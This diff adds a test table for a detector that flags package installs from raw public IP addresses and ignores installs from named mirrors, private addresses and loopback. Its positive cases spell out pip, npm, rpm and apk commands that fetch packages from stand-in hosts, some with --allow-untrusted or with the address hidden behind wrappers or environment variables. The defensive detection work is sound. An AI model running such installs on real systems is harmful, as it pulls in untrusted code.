@@ -1,0 +1,41 @@
+import { cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { commandPackageFromAddress } from './package-from-address.ts';
+
+indicatorTable(commandPackageFromAddress, {
+  fires: {
+    'an index of an address': runs('pip', 'install', '--index-url', 'http://203.0.113.7/simple', 'report'),
+    'in one word': script('pip3 install --extra-index-url=http://203.0.113.7:8080/simple report'),
+    'a short option joined with its value': script('pip install -ihttp://203.0.113.7/simple report'),
+    'as a module of Python': script('python3 -m pip install --index-url http://203.0.113.7/simple report'),
+    'a package by its address': script('pip install http://203.0.113.7/report-1.0.tar.gz'),
+    'with a user': script('npm install --registry https://a:b@203.0.113.7/ report'),
+    'a file that the other manager gets': runs('rpm', '-i', 'https://198.51.100.9/a.rpm'),
+    'a repository of the distribution': script('apk add -X http://203.0.113.7/alpine --allow-untrusted report'),
+    'behind wrappers': script('sudo -H env PIP_NO_CACHE_DIR=1 timeout 60 pip install -i http://203.0.113.7/simple a'),
+    'the address in a variable': script('I=203.0.113.7; pip install -i "http://$I/simple" a'),
+    'in the environment of the command': script('PIP_INDEX_URL=http://203.0.113.7/simple pip install a'),
+    'in the environment of the container': cronJob({
+      containers: [
+        {
+          name: 'main',
+          image: 'a',
+          env: [{ name: 'PIP_INDEX_URL', value: 'http://203.0.113.7/simple' }],
+          command: ['pip', 'install', 'a'],
+        },
+      ],
+    }),
+  },
+  staysSilent: {
+    'the public index': script('pip install --no-cache-dir requests==2.32.0'),
+    'a mirror with a name': script('pip install -i https://pypi.example.com/simple --trusted-host pypi.example.com a'),
+    'a mirror by an address for private use': script('pip install -i http://10.20.0.5:3141/root/pypi a'),
+    'another one': script('npm ci --registry=http://192.168.4.10:4873'),
+    'a service of the cluster': script('pip install --index-url http://devpi.tools.svc:3141/simple a'),
+    'the loopback': script('pip install -i http://127.0.0.1:3141/simple a'),
+    'a release by its address': script('pip install https://dl.example.com/report-1.0-py3-none-any.whl'),
+    'packages of the distribution': script('apt-get update && apt-get install -y curl jq'),
+    'a proxy by its address': script('pip install --proxy http://10.0.0.8:3128 a'),
+    'a version that looks like an address': script('pip install a==1.2.3.4'),
+  },
+  cannotTell: UNSEEN,
+});
